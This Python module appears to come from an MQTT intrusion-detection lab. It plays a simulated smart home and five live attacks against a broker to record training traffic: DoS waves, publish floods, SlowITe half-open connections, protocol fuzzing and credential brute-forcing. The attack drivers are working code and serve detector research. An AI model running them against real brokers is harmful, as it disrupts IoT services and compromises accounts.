"""Live traffic against a real broker: the smart home (paho-mqtt) and the five attacks.

The drivers play what :mod:`mqttids.lab.legit` and :mod:`mqttids.lab.attacks`
simulate, from the same description (:mod:`mqttids.lab.home`) and the same
packet builders, with every interval shrunk by ``scale`` so that seconds of
recording hold a useful sample. Keep-alives are not shrunk: they are a field
of every CONNECT, and a model trained on synthetic rows must see the same
values in recorded ones (the price: a short recording holds no PINGREQ).
Attack clients speak raw MQTT over sockets so that they can send what no
library would (fuzzed packets, half CONNECTs).

Every loop here is bounded twice: by the deadline and by a count. Sockets
have timeouts; threads are joined before a driver returns.
"""

from __future__ import annotations

import contextlib
import fcntl
import heapq
import logging
import random
import socket
import struct
import termios
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from mqttids.lab import attacks, fuzz, home
from mqttids.lab import codec as mq
from mqttids.errors import MissingDependencyError
from mqttids.lab.errors import RecordError
from mqttids.lab.templates import PublishTemplates
from mqttids.lab.wire import MSS

log = logging.getLogger(__name__)

SCALE = 0.05  # live time runs twenty times faster than the simulated home
_SOCKET_TIMEOUT = 2.0
_MAX_ATTEMPTS = 100_000  # connections one attack driver may open, whatever the deadline
_MAX_SLOW_CONNECTIONS = 300
_SEND_BUFFER = 256 * 1024
_DRAIN_SECONDS = 2.0


@dataclass
class LiveContext:
    """Where the broker is, until when to drive it, and how to stop early."""

    host: str
    port: int
    deadline: float  # time.monotonic() value
    rng: random.Random
    stop: threading.Event = field(default_factory=threading.Event)
    scale: float = SCALE
    errors: list[str] = field(default_factory=list)
    # Called when the deadline passes, before long-lived clients hang up: the
    # recorder stops its capture there, so a recording of the home is a window
    # into running traffic (as MQTTset's are), not a shutdown.
    before_stop: Callable[[], None] | None = None

    def running(self) -> bool:
        return not self.stop.is_set() and time.monotonic() < self.deadline

    def sleep(self, seconds: float) -> bool:
        """Sleep, cut short by the deadline or a stop; True while still running."""
        left = min(seconds, self.deadline - time.monotonic())
        if left > 0:
            self.stop.wait(left)
        return self.running()

    def child_rng(self) -> random.Random:
        return random.Random(self.rng.getrandbits(64))


def dial(ctx: LiveContext) -> socket.socket:
    """A TCP connection to the broker with an Ethernet-sized MSS, as on a home network.

    The send buffer is capped so that a client cannot queue megabytes the
    broker reads only after the class's recording has ended.
    """
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, MSS)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _SEND_BUFFER)
    sock.settimeout(_SOCKET_TIMEOUT)
    try:
        sock.connect((ctx.host, ctx.port))
    except OSError:
        sock.close()
        raise
    return sock


@contextlib.contextmanager
def connection(ctx: LiveContext) -> Iterator[socket.socket]:
    """``dial``, and on the way out wait (a little) until the broker has taken what was sent."""
    sock = dial(ctx)
    try:
        yield sock
    finally:
        _wait_sent(sock, _DRAIN_SECONDS)
        sock.close()


def _wait_sent(sock: socket.socket, limit: float) -> None:
    """Until the kernel holds no unacknowledged bytes of ``sock`` (TIOCOUTQ), or ``limit``."""
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        try:
            queued = struct.unpack("i", fcntl.ioctl(sock.fileno(), termios.TIOCOUTQ,
                                                    b"\0\0\0\0"))[0]
        except OSError:
            return
        if queued == 0:
            return
        time.sleep(0.01)


def read_packet(sock: socket.socket) -> tuple[int, bytes] | None:
    """One MQTT packet (type, body) from ``sock``; None when the broker closed."""
    first = _read_exactly(sock, 1)
    if first is None:
        return None
    length, shift = 0, 0
    for _ in range(4):
        byte = _read_exactly(sock, 1)
        if byte is None:
            return None
        length |= (byte[0] & 0x7F) << shift
        shift += 7
        if not byte[0] & 0x80:
            break
    body = _read_exactly(sock, length) if length else b""
    if body is None:
        return None
    return first[0] >> 4, body


def _read_exactly(sock: socket.socket, n: int) -> bytes | None:
    data = b""
    while len(data) < n:
        try:
            chunk = sock.recv(n - len(data))
        except (TimeoutError, OSError):
            return None
        if not chunk:
            return None
        data += chunk
    return data


def _drain_until_closed(sock: socket.socket, wait: float) -> bool:
    """Read and drop what the broker sends; True when it closed within ``wait`` seconds."""
    deadline = time.monotonic() + wait
    try:
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            if not sock.recv(4096):
                return True
    except OSError:  # a timeout, or a reset
        pass
    return False


def _run_workers(ctx: LiveContext, target: Callable[..., None], args_list: list[tuple]) -> None:
    threads = [threading.Thread(target=_guarded, args=(ctx, target, args), daemon=True)
               for args in args_list]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=max(0.0, ctx.deadline - time.monotonic()) + 10.0)


def _guarded(ctx: LiveContext, target: Callable[..., None], args: tuple) -> None:
    """Run a worker; a socket error ends that worker and is reported, not raised."""
    try:
        target(ctx, *args)
    except OSError as exc:
        if ctx.running():
            ctx.errors.append(f"{target.__name__}: {exc}")


# -- legitimate ------------------------------------------------------------------


def require_paho():
    try:
        import paho.mqtt.client as paho
        from paho.mqtt.enums import CallbackAPIVersion
        from paho.mqtt.properties import Properties
        from paho.mqtt.packettypes import PacketTypes
    except ImportError:
        raise MissingDependencyError(
            "lab record needs paho-mqtt for its legitimate clients: "
            "pip install 'mqttids[lab]'") from None
    return paho, CallbackAPIVersion, Properties, PacketTypes


class _HomeClients:
    """paho clients of the smart home: sensors, dashboard and controller."""

    def __init__(self, ctx: LiveContext):
        self.ctx = ctx
        self.paho, self.api, self.props, self.ptypes = require_paho()
        self.clients: list = []
        self.by_name: dict[str, object] = {}
        self.last_fan_command = -1e9
        self.lock = threading.Lock()

    def make(self, name: str, client_id: str, version: int, creds: bool, keepalive: int,
             clean: bool, will: tuple | None = None):
        paho, ctx = self.paho, self.ctx
        v5 = version == mq.V5
        client = paho.Client(self.api.VERSION2, client_id=client_id,
                             protocol=paho.MQTTv5 if v5 else paho.MQTTv311,
                             clean_session=None if v5 else clean)
        if will is not None:
            client.will_set(will[0], will[1], qos=will[2], retain=will[3])
        if creds:
            client.username_pw_set(home.LEGIT_USER, home.LEGIT_PASSWORD)
        props = None
        if v5:
            props = self.props(self.ptypes.CONNECT)
            props.SessionExpiryInterval = 0
        client.connect(ctx.host, ctx.port, keepalive=keepalive,
                       clean_start=True if v5 else self.paho.MQTT_CLEAN_START_FIRST_ONLY,
                       properties=props)
        client.loop_start()
        self.clients.append(client)
        self.by_name[name] = client
        return client

    def on_controller_message(self, client, _userdata, message) -> None:
        if message.topic.endswith("/motion") and message.payload == b"1":
            with self.lock:
                now = time.monotonic()
                if now - self.last_fan_command < 60 * self.ctx.scale:
                    return
                self.last_fan_command = now
            client.publish(home.FAN_COMMAND_TOPIC, b"3", qos=1)

    def on_fan_message(self, client, _userdata, message) -> None:
        client.publish("home/kitchen/fan", message.payload, qos=0, retain=True)

    def stop(self) -> None:
        for client in self.clients:
            client.disconnect()
        time.sleep(0.2)
        for client in self.clients:
            client.loop_stop()


def legitimate(ctx: LiveContext) -> None:
    """The smart home at ``ctx.scale`` speed until the deadline."""
    rng = ctx.rng
    home_clients = _HomeClients(ctx)
    try:
        for sub in home.SUBSCRIBERS:
            client = home_clients.make(
                sub.name, f"{sub.name}-{rng.getrandbits(32):08x}", sub.version, True,
                sub.keepalive, sub.version == mq.V5)
            if sub.name == "controller":
                client.on_message = home_clients.on_controller_message
            client.subscribe(list(sub.subscriptions))
        _drive_sensors(ctx, home_clients)
        if ctx.before_stop is not None:
            ctx.before_stop()
    finally:
        home_clients.stop()


def _drive_sensors(ctx: LiveContext, home_clients: _HomeClients) -> None:
    rng = ctx.rng
    queue: list[tuple[float, int]] = []
    start = time.monotonic()
    for i, spec in enumerate(home.SENSORS):
        heapq.heappush(queue, (start + rng.uniform(0.0, 5.0 * ctx.scale), i))
    connected: set[int] = set()
    for _ in range(1_000_000):
        if not queue or not ctx.running():
            return
        when, i = heapq.heappop(queue)
        if not ctx.sleep(when - time.monotonic()):
            return
        spec = home.SENSORS[i]
        if i not in connected:
            _connect_sensor(ctx, home_clients, spec, rng)
            connected.add(i)
        else:
            home_clients.by_name[spec.name].publish(spec.topic, spec.value(rng).encode(),
                                                    qos=spec.qos, retain=spec.retain)
        gap = (spec.interval * (0.97 + 0.06 * rng.random()) if spec.periodic
               else rng.expovariate(1.0 / spec.interval)) * ctx.scale
        heapq.heappush(queue, (time.monotonic() + gap, i))


def _connect_sensor(ctx: LiveContext, home_clients: _HomeClients, spec: home.Sensor,
                    rng: random.Random) -> None:
    client = home_clients.make(
        spec.name, f"{spec.room}-{spec.name}-{rng.getrandbits(24):06x}", spec.version,
        spec.credentials, spec.keepalive, True,
        will=(spec.status_topic, b"offline", 1, True))
    if spec.subscriptions:
        client.on_message = home_clients.on_fan_message
        client.subscribe(list(spec.subscriptions))
    client.publish(spec.status_topic, b"online", qos=1, retain=True)


# -- dos --------------------------------------------------------------------------


def dos(ctx: LiveContext) -> None:
    """Waves of MQTT-Malaria clients, each a thread with its own socket."""
    rng = ctx.rng
    wave = 0
    ctx.sleep(rng.uniform(0.0, 1.0) * ctx.scale)
    while ctx.running() and wave < 1000:
        wave += 1
        clients, count, qos, payloads = attacks.malaria_wave(rng)
        pid = rng.randint(1000, 65000)
        jobs = [(f"beem.loadr-attacker.lan-{pid}-{i}", count, qos, payloads, ctx.child_rng())
                for i in range(clients)]
        _run_workers(ctx, _malaria_worker, jobs)
        ctx.sleep(rng.uniform(1.0, 10.0) * ctx.scale)


def _malaria_worker(ctx: LiveContext, cid: str, count: int, qos: int, payloads: list[bytes],
                    rng: random.Random) -> None:
    with connection(ctx) as sock:
        sock.sendall(mq.connect(cid, keepalive=60))
        if read_packet(sock) is None:
            return
        for data, ids in attacks.malaria_segments(rng, cid, count, qos, payloads):
            if not ctx.running():
                break
            sock.sendall(data)
            for _ in ids:
                if read_packet(sock) is None:
                    return
        sock.sendall(mq.disconnect())


# -- flood ------------------------------------------------------------------------


def flood(ctx: LiveContext) -> None:
    """One client sending bursts of PUBLISH, reconnecting between series.

    The attacker's decisions come from the same ``plan`` stream as in the
    synthetic flood, so one seed gives the same bursts in both.
    """
    templates = PublishTemplates(limit=64)
    ctx.sleep(ctx.rng.uniform(0.0, 1.0) * ctx.scale)
    plan = random.Random(ctx.rng.getrandbits(64))
    for _ in range(_MAX_ATTEMPTS):
        if not ctx.running():
            return
        version = mq.V5 if plan.random() < 0.3 else mq.V311
        cid = f"flooder-{plan.getrandbits(32):08x}"
        try:
            _flood_connection(ctx, plan, templates, version, cid)
        except (TimeoutError, ConnectionError) as exc:
            # A broker that stops reading is what a flood is for; start over.
            log.info("flood: the broker choked (%s); reconnecting", exc)
        ctx.sleep(plan.uniform(2.0, 30.0) * ctx.scale)


def _flood_connection(ctx: LiveContext, plan: random.Random, templates: PublishTemplates,
                      version: int, cid: str) -> None:
    with connection(ctx) as sock:
        sock.sendall(mq.connect(cid, version=version, keepalive=60))
        if read_packet(sock) is None:
            return
        sock.settimeout(max(_SOCKET_TIMEOUT, ctx.deadline - time.monotonic() + 1.0))
        for burst in range(plan.randint(3, 30)):
            if not ctx.sleep(plan.uniform(0.2, 3.0) * ctx.scale):
                break
            sock.sendall(attacks.flood_burst(plan, version, templates, small=burst == 0))
        sock.sendall(mq.disconnect(version=version))


# -- slowite ----------------------------------------------------------------------


def slowite(ctx: LiveContext) -> None:
    """Connections with keep-alive 65535, CONNECT sent in two parts, held until the end."""
    rng = ctx.rng
    held: list[socket.socket] = []
    ctx.sleep(rng.uniform(0.0, 1.0) * ctx.scale)
    try:
        for _wave in range(1000):
            if not ctx.running():
                return
            count, version, _hold = attacks.slowite_wave(rng)
            for i in range(min(count, _MAX_SLOW_CONNECTIONS)):
                if not ctx.running():
                    break
                held.append(_slow_connection(ctx, attacks.slowite_client_id(i), version))
                ctx.sleep(0.0003)
            ctx.sleep(ctx.deadline - time.monotonic())
    finally:
        for sock in held:
            sock.close()


def _slow_connection(ctx: LiveContext, cid: str, version: int) -> socket.socket:
    """One SlowITe connection: CONNECT in two writes, then the CONNACK; left open."""
    sock = dial(ctx)
    try:
        packet = mq.connect(cid, version=version, keepalive=home.SLOWITE_KEEPALIVE)
        sock.sendall(packet[:-1])
        time.sleep(0.0004)
        sock.sendall(packet[-1:])
        read_packet(sock)
    except OSError:
        sock.close()
        raise
    return sock


# -- malformed --------------------------------------------------------------------


def malformed(ctx: LiveContext) -> None:
    """Fuzzer workers: a fresh connection per case, until the deadline."""
    ctx.sleep(ctx.rng.uniform(0.0, 1.0) * ctx.scale)
    workers = ctx.rng.randint(1, 3)
    pause = ctx.rng.choice((0.002, 0.01, 0.05)) * ctx.scale
    _run_workers(ctx, _fuzz_worker, [(ctx.child_rng(), pause) for _ in range(workers)])


def _fuzz_worker(ctx: LiveContext, rng: random.Random, pause: float) -> None:
    for _ in range(_MAX_ATTEMPTS):
        if not ctx.running():
            return
        case = fuzz.draw(rng)
        try:
            _fuzz_attempt(ctx, rng, case)
        except OSError:
            pass  # the broker hung up mid-way: what a fuzzer expects
        ctx.sleep(pause * (0.5 + rng.random()))


def _fuzz_attempt(ctx: LiveContext, rng: random.Random, case: fuzz.FuzzCase) -> None:
    with connection(ctx) as sock:
        if case.connect_first:
            sock.sendall(mq.connect(f"fuzz-{rng.getrandbits(24):06x}", version=case.version,
                                    keepalive=60))
            if read_packet(sock) is None:
                return
            if rng.random() < 0.3:
                sock.sendall(mq.subscribe(1, (("home/#", 0),), version=case.version))
                read_packet(sock)
        sock.sendall(case.data)
        if not _drain_until_closed(sock, 0.05):
            sock.sendall(mq.disconnect(version=case.version))


# -- bruteforce -------------------------------------------------------------------


def bruteforce(ctx: LiveContext) -> None:
    """Password guessing: users x wordlist split over a few workers, one CONNECT each."""
    rng = ctx.rng
    ctx.sleep(rng.uniform(0.0, 1.0) * ctx.scale)
    for _run in range(1000):
        if not ctx.running():
            return
        users, workers, version, pause, ids = attacks.brute_run(rng)
        guesses = [(u, p) for u in users for p in home.BRUTE_PASSWORDS]
        _run_workers(ctx, _brute_worker, [(guesses[w::workers], version, pause * ctx.scale,
                                           ids, ctx.child_rng()) for w in range(workers)])
        ctx.sleep(rng.uniform(10.0, 300.0) * ctx.scale)


def _brute_worker(ctx: LiveContext, guesses: list[tuple[str, str]], version: int,
                  pause: float, ids: str, rng: random.Random) -> None:
    for user, password in guesses:
        if not ctx.running():
            return
        with connection(ctx) as sock:
            sock.sendall(mq.connect(attacks.brute_client_id(rng, ids, version),
                                    version=version, keepalive=60, username=user,
                                    password=password))
            reply = read_packet(sock)
            if reply is not None and reply[0] == mq.CONNACK and reply[1][1:2] == b"\x00":
                log.warning("bruteforce guessed %s's password %r", user, password)
        ctx.sleep(pause * (0.4 + 1.2 * rng.random()))


DRIVERS: dict[str, Callable[[LiveContext], None]] = {
    "legitimate": legitimate, "dos": dos, "flood": flood, "malformed": malformed,
    "slowite": slowite, "bruteforce": bruteforce,
}


def drive(kind: str, ctx: LiveContext) -> None:
    """Run the driver of class ``kind``; raise when the broker could not be reached at all."""
    try:
        DRIVERS[kind](ctx)
    except OSError as exc:
        raise RecordError(f"the {kind} driver lost the broker at {ctx.host}:{ctx.port}: "
                          f"{exc}; see the broker log in the output folder") from None
    if ctx.errors:
        log.info("%s: %d worker(s) ended early, first: %s", kind, len(ctx.errors),
                 ctx.errors[0])

